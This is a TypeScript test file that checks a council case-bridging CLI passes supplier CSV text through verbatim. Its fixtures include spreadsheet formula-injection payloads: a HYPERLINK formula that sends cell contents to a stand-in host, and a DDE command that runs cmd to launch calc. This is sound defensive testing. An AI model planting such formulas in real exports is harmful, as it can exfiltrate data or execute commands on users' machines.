/**
 * Supplier text reaches the event exactly as written, including text a spreadsheet would run as a
 * formula (docs/supplier-text.md says so and tells portals what to do when exporting to CSV).
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { CaseEvent } from '../../src/event/case-event.js';
import { runCli } from '../helpers/cli.js';

const work = mkdtempSync(join(tmpdir(), 'cb-supplier-text-'));
afterAll(() => rmSync(work, { recursive: true, force: true }));

const TEXTS: Record<string, string> = {
  'F-1': '=HYPERLINK("https://example.invalid/?q="&A1,"Click for details")',
  'F-2': '+44 20 7527 2000 called about the bins',
  'F-3': '-2 bins missed this week',
  'F-4': '@SUM(1+1)*cmd|\' /C calc\'!A0',
  'F-5': '<b>Fly-tipping</b> & "mattress" on the pavement',
};

describe('supplier text', () => {
  it('passes through verbatim, formulas and markup included', () => {
    mkdirSync(join(work, 'exports'));
    const csv = ['Ref,Stage,Updated,Notes,Street', ...Object.entries(TEXTS).map(([ref, text]) => `${ref},1,01/06/2025 10:00,"${text.replace(/"/g, '""')}","${text.replace(/"/g, '""')}"`)].join('\n') + '\n';
    writeFileSync(join(work, 'exports', 'cases.csv'), csv);
    writeFileSync(
      join(work, 'casebridge.yaml'),
      `version: 1
councils: [{ gss: E09000019, name: Islington }]
connectors:
  - name: texts
    type: file
    council: E09000019
    system: { supplier: Street services }
    path: ./exports
    ready: { stableFor: 0s }
    mapping:
      reference: Ref
      description: Notes
      status: { code: Stage, lookup: st }
      updatedAt: { path: Updated, date: dd/MM/yyyy HH:mm }
      location: { address: Street }
      lookups: { st: { kind: status, entries: { "1": { status: received } } } }
`,
    );
    const r = runCli(['preview', join(work, 'casebridge.yaml'), 'texts', '--json']);
    expect(r.status, r.stderr).toBe(0);
    const events = r.stdout.split('\n').filter(Boolean).map((l) => JSON.parse(l) as CaseEvent);
    expect(events.map((e) => e.subject).sort()).toEqual(Object.keys(TEXTS));
    for (const e of events) {
      expect(e.data.case.description).toBe(TEXTS[e.subject]);
      expect(e.data.location?.address).toBe(TEXTS[e.subject]);
    }
  });
});
